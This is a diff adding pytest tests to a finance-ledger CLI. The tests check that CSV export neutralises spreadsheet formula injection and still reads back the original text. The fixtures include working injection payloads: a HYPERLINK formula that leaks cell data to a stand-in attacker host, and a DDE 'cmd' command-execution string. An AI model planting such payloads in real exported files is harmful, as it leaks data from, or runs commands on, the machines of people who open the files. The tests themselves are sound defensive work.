@@ -11,6 +11,7 @@ import pytest
 
 from finassist.adapters.xlsx_ledger import XlsxLedger
 from finassist.cli import main
+from finassist.domain.csv_cells import FORMULA_TRIGGERS
 from finassist.domain.expense import COLUMNS, Expense, LedgerRow
 
 
@@ -86,3 +87,44 @@ def test_ledger_export_writes_the_months_rows_to_a_csv_that_loads_back_into_a_wo
     assert copy.rows()[1] == LedgerRow(
         Expense(date(2026, 11, 24), "Alimentação", "Almoço", Decimal("45.10"), "com a equipe"), "SM1:c1"
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"ver")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_ledger_export_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula_and_reads_back_the_same_text(
+    tmp_path: Path, formula: str
+) -> None:
+    path = tmp_path / "Financas.xlsx"
+    XlsxLedger(path).append(Expense(date(2026, 11, 24), "Outros", formula, Decimal("10.00"), formula), "SM9:c1")
+    out_csv = tmp_path / "out.csv"
+
+    assert main(["ledger", "export", "--file", str(path), "--csv", str(out_csv)]) == 0
+
+    stored = XlsxLedger(path).rows()[0].expense.description  # the workbook keeps no leading tab or CR
+    raw = out_csv.read_text(encoding="utf-8-sig")
+    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
+        [_, row] = list(csv.reader(handle))
+    assert stored.startswith(FORMULA_TRIGGERS)
+    assert row[2] == row[4] == "'" + stored, "a leading quote makes the spreadsheet show text"
+    assert raw.splitlines()[1].startswith('"2026-11-24","Outros","\'')
+    copy = XlsxLedger.from_csv(tmp_path / "copia.xlsx", out_csv)
+    assert [(r.expense.description, r.expense.notes) for r in copy.rows()] == [(stored, stored)]
+
+
+def test_ledger_export_leaves_ordinary_text_and_amounts_alone(workbook: Path, tmp_path: Path) -> None:
+    out_csv = tmp_path / "all.csv"
+
+    assert main(["ledger", "export", "--file", str(workbook), "--csv", str(out_csv)]) == 0
+
+    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert not any(cell.startswith("'") for row in rows for cell in row)
